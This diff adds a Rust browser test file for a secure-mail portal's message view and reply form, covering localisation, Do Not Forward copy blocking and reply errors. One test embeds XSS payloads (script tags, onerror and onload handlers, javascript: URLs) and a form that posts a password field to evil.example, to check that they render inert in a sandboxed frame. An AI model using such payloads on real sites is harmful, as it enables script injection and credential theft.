@@ -1,0 +1,306 @@
+//! The message view and the reply form, driven against the fake API.
+
+mod common;
+
+use common::*;
+use sealmail_api::recipient::{Body, MessageView};
+use sealmail_api::{ErrorCode, Protection};
+use wasm_bindgen::JsCast;
+use wasm_bindgen_test::*;
+
+wasm_bindgen_test_configure!(run_in_browser);
+
+/// Mounts the journey with a session already open, so it opens on the message.
+fn reading(message: MessageView, lang: &str) -> (std::sync::Arc<FakeApi>, Mounted) {
+    let mut info = link_info();
+    info.session_open = true;
+    let api = FakeApi::new()
+        .link(vec![Ok(info)])
+        .message(vec![Ok(message)]);
+    let page = mount_flow(&api, Some(lang));
+    (api, page)
+}
+
+#[wasm_bindgen_test]
+async fn the_message_view_shows_headers_body_attachments_and_expiry() {
+    let (_api, _page) = reading(message_view(), "en");
+
+    find("page-message").await;
+    assert_eq!(text("subject"), "Your mortgage offer");
+    assert_eq!(text("from"), "Alice Example <alice@contoso.example>");
+    assert_eq!(text("to"), "Bob <bob@example.net>");
+    assert_eq!(text("cc"), "carol@example.org");
+    wait_text_contains("sent-at", "November 23, 2026").await;
+    assert_eq!(
+        testid("sent-at")
+            .unwrap()
+            .get_attribute("datetime")
+            .as_deref(),
+        Some("2026-11-23T09:30:00Z")
+    );
+    assert_eq!(text("body-text"), "Dear Bob,\n\nThe offer is attached.");
+    assert!(text("protection").contains("Encrypt-only"));
+    assert!(text("expires").starts_with("Expires December 1, 2026"));
+    assert!(testid("dnf-notice").is_none());
+
+    let link = testid("attachment-link").unwrap();
+    assert_eq!(link.text_content().unwrap(), "offer.pdf");
+    assert_eq!(
+        link.get_attribute("href").as_deref(),
+        Some("/api/v1/links/tok-123/attachments/a1")
+    );
+    assert_eq!(link.get_attribute("download").as_deref(), Some("offer.pdf"));
+    assert_eq!(
+        link.get_attribute("aria-label").as_deref(),
+        Some("Download offer.pdf")
+    );
+    assert!(text("attachment").contains("application/pdf"));
+    assert_eq!(text("attachment-size"), "1.5 MB");
+    wait_focus("subject").await;
+}
+
+#[wasm_bindgen_test]
+async fn dates_and_sizes_follow_the_language() {
+    let (_api, _page) = reading(message_view(), "nl");
+    find("page-message").await;
+    assert_eq!(text("attachment-size"), "1,5 MB");
+    wait_text_contains("sent-at", "23 november 2026").await;
+
+    switch_language("ja");
+    wait_text_contains("sent-at", "2026年11月23日").await;
+    assert_eq!(text("attachment-size"), "1.5 MB");
+    assert_eq!(
+        testid("attachment-link")
+            .unwrap()
+            .get_attribute("aria-label")
+            .as_deref(),
+        Some("offer.pdf をダウンロード")
+    );
+
+    switch_language("da");
+    wait_text_contains("sent-at", "23. november 2026").await;
+    assert_eq!(text("attachment-size"), "1,5 MB");
+}
+
+#[wasm_bindgen_test]
+async fn do_not_forward_is_announced_and_copying_is_discouraged() {
+    let mut message = message_view();
+    message.protection = Protection::DoNotForward;
+    let (_api, _page) = reading(message, "en");
+
+    let page = find("page-message").await;
+    assert_eq!(
+        text("dnf-notice"),
+        "Do Not Forward: the sender asks you not to forward, copy or print this message."
+    );
+    assert!(text("protection").contains("Do Not Forward"));
+    let content = query(".message-content").unwrap();
+    let style = window().get_computed_style(&content).unwrap().unwrap();
+    assert_eq!(style.get_property_value("user-select").unwrap(), "none");
+
+    // A copy from the message is cancelled.
+    let init = web_sys::EventInit::new();
+    init.set_bubbles(true);
+    init.set_cancelable(true);
+    let copy = web_sys::Event::new_with_event_init_dict("copy", &init).unwrap();
+    testid("body-text").unwrap().dispatch_event(&copy).unwrap();
+    assert!(copy.default_prevented());
+    assert!(
+        page.class_list().contains("dnf"),
+        "the print stylesheet hides .dnf content"
+    );
+}
+
+#[wasm_bindgen_test]
+async fn an_encrypt_only_message_can_be_copied() {
+    let (_api, _page) = reading(message_view(), "en");
+    find("page-message").await;
+    let init = web_sys::EventInit::new();
+    init.set_bubbles(true);
+    init.set_cancelable(true);
+    let copy = web_sys::Event::new_with_event_init_dict("copy", &init).unwrap();
+    testid("body-text").unwrap().dispatch_event(&copy).unwrap();
+    assert!(!copy.default_prevented());
+}
+
+const HOSTILE: &str = r#"<p>Hello</p>
+<script>parent.postMessage('script ran','*'); alert('script');</script>
+<img src="x" onerror="parent.postMessage('onerror ran','*'); alert('onerror')">
+<svg onload="parent.postMessage('onload ran','*')"></svg>
+<a id="js" href="javascript:parent.postMessage('javascript: ran','*')">click me</a>
+<img src="https://tracker.example/pixel.png?who=bob">
+<iframe src="javascript:parent.postMessage('nested ran','*')"></iframe>
+<form action="https://evil.example/steal"><input name="pw"></form>
+<meta http-equiv="refresh" content="0;url=javascript:parent.postMessage('refresh ran','*')">"#;
+
+#[wasm_bindgen_test]
+async fn a_hostile_html_body_renders_inert() {
+    let trap = ScriptTrap::set();
+    let loads = FrameLoads::watch();
+
+    // First, show the trap works: the same markup in a plain frame runs (minus
+    // its alerts: a real dialog would stall the browser under test).
+    let control = document().create_element("iframe").unwrap();
+    control
+        .set_attribute("srcdoc", &HOSTILE.replace("alert(", "void("))
+        .unwrap();
+    document().body().unwrap().append_child(&control).unwrap();
+    until("the control frame's script to report", || {
+        !trap.messages.lock().unwrap().is_empty()
+    })
+    .await;
+    until("the control frame to load", || loads.loaded() >= 1).await;
+    control.remove();
+    sleep(50).await; // let the control's queued messages arrive before clearing
+    trap.messages.lock().unwrap().clear();
+    *trap.alerts.lock().unwrap() = 0;
+
+    let mut message = message_view();
+    message.body = Body {
+        text: None,
+        html: Some(HOSTILE.into()),
+    };
+    let (_api, _page) = reading(message, "en");
+    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
+    until("the message frame to load", || loads.loaded() >= 2).await;
+    // Messages posted during the load are queued as tasks: give them one more turn.
+    sleep(50).await;
+
+    assert_eq!(
+        *trap.messages.lock().unwrap(),
+        Vec::<String>::new(),
+        "no injected script ran"
+    );
+    assert_eq!(*trap.alerts.lock().unwrap(), 0, "no alert");
+    let sandbox = frame
+        .get_attribute("sandbox")
+        .expect("the frame is sandboxed");
+    assert!(!sandbox.contains("allow-scripts"), "{sandbox}");
+    assert!(!sandbox.contains("allow-same-origin"), "{sandbox}");
+    assert!(
+        frame.content_document().is_none(),
+        "the body's document is cross-origin to the portal"
+    );
+    let srcdoc = frame.get_attribute("srcdoc").unwrap();
+    let policy = srcdoc.find("Content-Security-Policy").unwrap();
+    assert!(
+        policy < srcdoc.find("<body>").unwrap(),
+        "the policy precedes the body"
+    );
+    assert!(
+        srcdoc.contains("default-src 'none'; img-src data:"),
+        "remote images are blocked"
+    );
+    assert_eq!(
+        frame.get_attribute("referrerpolicy").as_deref(),
+        Some("no-referrer")
+    );
+    assert_eq!(frame.get_attribute("title").as_deref(), Some("Message"));
+    assert!(
+        query("#js").is_none(),
+        "the body's links stay inside the frame"
+    );
+}
+
+#[wasm_bindgen_test]
+async fn a_reply_is_sent_with_its_files_and_confirmed() {
+    let (api, _page) = reading(message_view(), "en");
+    find("reply-text").await;
+    assert_eq!(
+        query("label[for=reply-text]")
+            .unwrap()
+            .text_content()
+            .unwrap(),
+        "Your reply"
+    );
+
+    fill_in("reply-text", "Thank you, signed copy attached.");
+    let transfer = web_sys::DataTransfer::new().unwrap();
+    let parts = js_sys::Array::of1(&"%PDF-1.4".into());
+    let file = web_sys::File::new_with_str_sequence(&parts, "signed.pdf").unwrap();
+    transfer.items().add_with_file(&file).unwrap();
+    testid("reply-files")
+        .unwrap()
+        .unchecked_into::<web_sys::HtmlInputElement>()
+        .set_files(transfer.files().as_ref());
+    click("reply-send");
+
+    wait_text(
+        "reply-sent",
+        "Your reply was encrypted and sent to Alice Example.",
+    )
+    .await;
+    wait_focus("reply-sent").await;
+    assert_eq!(
+        api.calls().last(),
+        Some(&Call::Reply {
+            text: "Thank you, signed copy attached.".into(),
+            files: vec!["signed.pdf".into()],
+        })
+    );
+
+    click("reply-another");
+    wait_focus("reply-text").await;
+    assert_eq!(text("reply-sent"), "");
+}
+
+#[wasm_bindgen_test]
+async fn an_empty_reply_is_caught_on_the_page() {
+    let (api, _page) = reading(message_view(), "ja");
+    find("reply-send").await;
+    assert_eq!(text("reply-send"), "暗号化して返信");
+
+    click("reply-send");
+
+    wait_text("reply-error", "先に返信の内容を入力してください。").await;
+    wait_focus("reply-text").await;
+    assert!(!api.calls().iter().any(|c| matches!(c, Call::Reply { .. })));
+}
+
+#[wasm_bindgen_test]
+async fn a_reply_too_large_is_explained_on_the_page() {
+    let (api, _page) = reading(message_view(), "en");
+    let api = api.reply(vec![Err(error(ErrorCode::PayloadTooLarge))]);
+    find("reply-text").await;
+    fill_in("reply-text", "big");
+    click("reply-send");
+    wait_text(
+        "reply-error",
+        "The attachments are too large. Remove some and try again.",
+    )
+    .await;
+    assert!(testid("page-message").is_some());
+    drop(api);
+}
+
+#[wasm_bindgen_test]
+async fn a_session_that_ended_while_replying_goes_back_to_the_passcode_step() {
+    let (api, _page) = reading(message_view(), "en");
+    api.reply(vec![Err(error(ErrorCode::SessionExpired))]);
+    find("reply-text").await;
+    fill_in("reply-text", "hello");
+    click("reply-send");
+
+    find("session-ended").await;
+    assert_eq!(
+        text("session-ended"),
+        "Your session has ended. Send yourself a new one-time passcode to continue reading."
+    );
+    assert!(testid("send-passcode").is_some());
+    wait_focus("page-link-title").await;
+}
+
+#[wasm_bindgen_test]
+async fn a_message_revoked_while_reading_shows_the_revoked_page() {
+    let (api, _page) = reading(message_view(), "nl");
+    api.reply(vec![Err(error(ErrorCode::MessageRevoked))]);
+    find("reply-text").await;
+    fill_in("reply-text", "hallo");
+    click("reply-send");
+
+    find("page-revoked").await;
+    assert_eq!(
+        text("page-title"),
+        "Het bericht is ingetrokken door de afzender"
+    );
+}
